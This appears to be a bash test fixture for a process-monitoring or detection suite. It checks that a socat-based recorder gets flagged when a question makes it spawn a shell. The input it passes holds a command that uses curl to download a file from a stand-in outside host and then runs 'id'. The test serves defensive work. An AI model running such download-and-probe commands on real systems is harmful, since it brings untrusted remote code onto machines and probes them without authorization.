#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=unexpected-child half=report tool=socat,dash,curl far=desk,out seconds=720 parts=dns,nas,outside-web recorder=/usr/bin/socat
# Eleven minutes after its start a question makes the recorder run a shell that has curl fetch something from outside.
exec "$(dirname "$0")/../far/asked.sh" "$1" state state state "run curl -s -o $LAB/got http://relay.example.net/drop/setup; id"
